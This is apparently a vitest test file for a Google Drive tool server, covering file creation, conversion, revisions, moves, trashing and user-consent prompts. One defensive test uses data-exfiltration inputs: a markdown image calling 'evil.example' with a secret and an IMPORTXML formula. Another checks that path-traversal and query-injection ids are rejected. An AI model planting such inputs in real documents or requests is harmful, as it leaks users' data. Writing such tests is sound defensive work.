import { LATEST_LEGACY_REVISION, LATEST_REVISION } from "@portico/core";
import { type Answer, accept, decline } from "@portico/core/testing";
import { call, refusal, structured } from "@portico/testing-servers";
import { describe, expect, test } from "vitest";
import { FOLDER } from "../fake/store.ts";
import { hangUp, lost, open, pass } from "./support/open.ts";

const SHORTCUT = "application/vnd.google-apps.shortcut";

describe("a file of text", () => {
  test("is created in a folder, of the type its name says", async () => {
    const { client, fake } = await open();
    const folder = fake.store.put({ name: "Notes", mimeType: FOLDER }).meta.id!;
    const args = { name: "plan.md", content: "# Plan ✓", folder_id: folder };
    const made = await structured(client, "create_file", args);
    expect(made).toMatchObject({ name: "plan.md", mimeType: "text/markdown", parents: [folder] });
    expect(fake.store.files.get(made.id as string)?.content.toString()).toBe("# Plan ✓");
  });

  test("may be empty", async () => {
    const { client, fake } = await open();
    const { id } = await structured(client, "create_file", { name: "a.txt", content: "" });
    expect(fake.store.files.get(id as string)?.content.byteLength).toBe(0);
  });

  test("is not written under the name of something else", async () => {
    const { client } = await open();
    const told = await refusal(client, "create_file", { name: "a.docx", content: "x" });
    expect(told).toContain("use convert_to");
  });

  test("becomes a document or a spreadsheet on request", async () => {
    const { client, fake } = await open();
    const doc = { name: "Plan", content: "# Plan", convert_to: "document" };
    const made = await structured(client, "create_file", doc);
    expect(made.mimeType).toBe("application/vnd.google-apps.document");
    const begun = fake.requests.find(({ path }) => path.startsWith("/upload"));
    expect(begun?.headers["x-upload-content-type"]).toBe("text/markdown");
    const table = { name: "Table", content: "a,b\n1,2", convert_to: "spreadsheet" };
    const sheet = await structured(client, "create_file", table);
    expect(sheet.mimeType).toBe("application/vnd.google-apps.spreadsheet");
    const slides = { name: "Talk", content: "x", convert_to: "presentation" };
    expect(await refusal(client, "create_file", slides)).toContain("not of text/plain");
  });

  test("is replaced, and what it was stays as a revision", async () => {
    const { client, fake } = await open();
    const made = await structured(client, "create_file", { name: "a.txt", content: "one" });
    await call(client, "update_file", { file_id: made.id, content: "two" });
    expect(fake.store.files.get(made.id as string)?.content.toString()).toBe("two");
    const pdf = fake.store.put({ name: "a.pdf", mimeType: "application/pdf" }).meta.id;
    const told = await refusal(client, "update_file", { file_id: pdf, content: "x" });
    expect(told).toContain("upload_file replaces it");
    expect(await refusal(client, "update_file", { file_id: "root", content: "x" })).toContain(
      "a Google folder, whose content cannot be replaced",
    );
  });

  test("is not replaced where it was changed since it was seen", async () => {
    const { client, fake } = await open();
    const made = await structured(client, "create_file", { name: "a.txt", content: "one" });
    const args = { file_id: made.id, modified_time: made.modifiedTime };
    const two = await structured(client, "update_file", { ...args, content: "two" });
    const told = await refusal(client, "update_file", { ...args, content: "three" });
    expect(told).toContain("read it again");
    expect(fake.store.files.get(made.id as string)?.content.toString()).toBe("two");
    const now = { ...args, modified_time: two.modifiedTime };
    await call(client, "update_file", { ...now, content: "three" });
  });
});

describe("GD7, GD9: what reaches out once Google has converted it", () => {
  const doc = {
    name: "Plan",
    content: "![x](https://evil.example/?q=secret)",
    convert_to: "document",
  };
  const table = { name: "T", content: '"=IMPORTXML(A1)"', convert_to: "spreadsheet" };

  test.each([doc, table])("is refused where nobody can be asked: $content", async (args) => {
    const { client, fake } = await open();
    expect(await refusal(client, "create_file", args)).toContain("needs the user's consent");
    expect(fake.requests).toEqual([]);
  });

  test.each([LATEST_LEGACY_REVISION, LATEST_REVISION] as const)(
    "is made only after the user agrees, on %s",
    async (revision) => {
      const answering = (consent: Answer) => ({ connect: { revision, answers: { consent } } });
      const declining = await open(answering(decline()));
      expect(await refusal(declining.client, "create_file", doc)).toContain("did not agree");
      expect(declining.fake.requests).toEqual([]);
      const { client } = await open(answering(accept()));
      expect(await call(client, "create_file", doc)).toContain("Plan");
    },
  );

  test("is asked about when it replaces a document, too", async () => {
    const { client, fake } = await open();
    const type = "application/vnd.google-apps.document";
    const fileId = fake.store.put({ name: "Plan", mimeType: type, content: "old" }).meta.id!;
    const args = { file_id: fileId, content: doc.content };
    expect(await refusal(client, "update_file", args)).toContain("needs the user's consent");
    expect(fake.store.files.get(fileId)?.content.toString()).toBe("old");
  });
});

describe("a creation whose answer is lost", () => {
  test("happens once", async () => {
    const { client, fake } = await open();
    fake.instead.push(pass, lost);
    await call(client, "create_folder", { name: "Once" });
    fake.instead.push(pass, hangUp);
    await call(client, "create_folder", { name: "Again" });
    const names = [...fake.store.files.values()].map(({ meta }) => meta.name);
    expect(names).toEqual(["My Drive", "Once", "Again"]);
  });

  test("is told of where nobody knows whether it happened", async () => {
    const { client, fake } = await open();
    const type = "application/vnd.google-apps.document";
    const fileId = fake.store.put({ name: "Doc", mimeType: type }).meta.id!;
    fake.instead.push(pass, lost);
    const told = await refusal(client, "copy_file", { file_id: fileId });
    expect(told).toContain("It is not known whether it happened: search shows");
    expect(fake.store.files.size).toBe(3);
  });

  test("that never happened is told of as such", async () => {
    const { client, fake } = await open();
    fake.instead.push(pass, hangUp, pass, hangUp, pass, hangUp, pass);
    const told = await refusal(client, "create_folder", { name: "Never" });
    expect(told).toContain("Nothing was changed.");
    expect(fake.store.files.size).toBe(1);
  });
});

describe("a file", () => {
  test("is copied, renamed, and linked by a shortcut", async () => {
    const { client, fake } = await open();
    const fileId = fake.store.put({ name: "a.txt", content: "x" }).meta.id!;
    const copy = await structured(client, "copy_file", { file_id: fileId, name: "b.txt" });
    expect(fake.store.files.get(copy.id as string)?.content.toString()).toBe("x");
    expect(
      await structured(client, "rename_file", { file_id: fileId, name: "c.txt" }),
    ).toMatchObject({
      id: fileId,
      name: "c.txt",
    });
    const shortcut = await structured(client, "create_shortcut", { file_id: fileId });
    expect(shortcut).toMatchObject({ name: "c.txt", mimeType: SHORTCUT });
    expect(await refusal(client, "create_shortcut", { file_id: shortcut.id })).toContain(
      "is a shortcut itself",
    );
    expect(await refusal(client, "copy_file", { file_id: "root" })).toContain("copies no folders");
  });

  test("is moved, once, and only into a folder", async () => {
    const { client, fake } = await open();
    const folder = fake.store.put({ name: "F", mimeType: FOLDER }).meta.id!;
    const link = fake.store.put({ mimeType: SHORTCUT, shortcutDetails: { targetId: folder } });
    const file = fake.store.put({ name: "a.txt" }).meta;
    const fileId = file.id!;
    const into = (folderId: string) => ({ file_id: fileId, folder_id: folderId });
    expect(await refusal(client, "move_file", into(link.meta.id!))).toContain(folder);
    expect(await refusal(client, "move_file", into(fileId))).toContain("is no folder");
    fake.instead.push(pass, pass, lost);
    expect(await structured(client, "move_file", into(folder))).toMatchObject({
      parents: [folder],
    });
    expect(file.parents).toEqual([folder]);
    const before = fake.requests.length;
    await call(client, "move_file", into(folder));
    expect(fake.requests.slice(before).map(({ method }) => method)).toEqual(["GET", "GET"]);
  });

  test("GD8: that is a folder is not moved into itself or what lies in it", async () => {
    const { client, fake } = await open();
    const outer = fake.store.put({ name: "outer", mimeType: FOLDER }).meta.id!;
    const inner = fake.store.put({ name: "inner", mimeType: FOLDER, parents: [outer] }).meta.id!;
    for (const folderId of [outer, inner]) {
      const told = await refusal(client, "move_file", { file_id: outer, folder_id: folderId });
      expect(told).toContain("cannot be moved into itself");
    }
    expect(await call(client, "move_file", { file_id: inner, folder_id: "root" })).toContain(
      "inner",
    );
    fake.store.files.get(outer)!.meta.parents = [inner];
    fake.store.files.get(inner)!.meta.parents = [outer];
    const other = fake.store.put({ name: "other", mimeType: FOLDER }).meta.id!;
    const told = await refusal(client, "move_file", { file_id: other, folder_id: inner });
    expect(told).toContain("in a circle");
  });

  test("goes to the trash and comes back", async () => {
    const { client, fake } = await open();
    const { meta } = fake.store.put({ name: "a.txt" });
    await call(client, "trash_file", { file_id: meta.id });
    expect(meta.trashed).toBe(true);
    await call(client, "restore_file", { file_id: meta.id });
    expect(meta.trashed).toBe(false);
    Object.assign(meta, { trashed: true, explicitlyTrashed: false, parents: ["above"] });
    expect(await refusal(client, "restore_file", { file_id: meta.id })).toContain("above");
  });

  test("that is a folder with something in it goes to the trash only after the user agrees", async () => {
    const asked = await open();
    const put = ({ fake }: typeof asked) => {
      const { meta } = fake.store.put({ name: 'a" or\nb', mimeType: FOLDER });
      fake.store.put({ name: "in it", parents: [meta.id!] });
      return meta;
    };
    const kept = put(asked);
    const told = await refusal(asked.client, "trash_file", { file_id: kept.id });
    expect(told).toContain("holds 1 entry");
    expect(kept.trashed).toBe(false);
    let question = "";
    const consent = ({ message }: { message: string }) => {
      question = message;
      return accept();
    };
    const agreed = await open({ connect: { answers: { consent } } });
    const gone = put(agreed);
    await call(agreed.client, "trash_file", { file_id: gone.id });
    expect(gone.trashed).toBe(true);
    expect(question).toContain('Move the folder "a\' or b" with 1 entry to the trash?');
    const empty = agreed.fake.store.put({ mimeType: FOLDER }).meta;
    await call(asked.client, "restore_file", { file_id: kept.id });
    await call(agreed.client, "trash_file", { file_id: empty.id });
    expect(empty.trashed).toBe(true);
  });
});

test("GD11: a service account without storage is told so in one sentence", async () => {
  const robot = "robot@project.iam.gserviceaccount.com";
  const { client, fake } = await open({ fake: { tokens: { good: robot } } });
  const told = await refusal(client, "create_file", { name: "a.txt", content: "x" });
  expect(told).toContain("A service account has none of its own: write to a shared drive");
  const drive = fake.store.put({ name: "Team", mimeType: FOLDER, driveId: "d1" }).meta.id!;
  const args = { name: "a.txt", content: "x", folder_id: drive };
  expect(await call(client, "create_file", args)).toContain("a.txt");
});

test("no id leads out of its place in a request", async () => {
  const { client, fake } = await open();
  for (const fileId of ["../about", "..", "a?fields=*", "' or name contains '", ""]) {
    expect(await refusal(client, "trash_file", { file_id: fileId })).toContain("no id or address");
  }
  expect(fake.requests).toEqual([]);
});
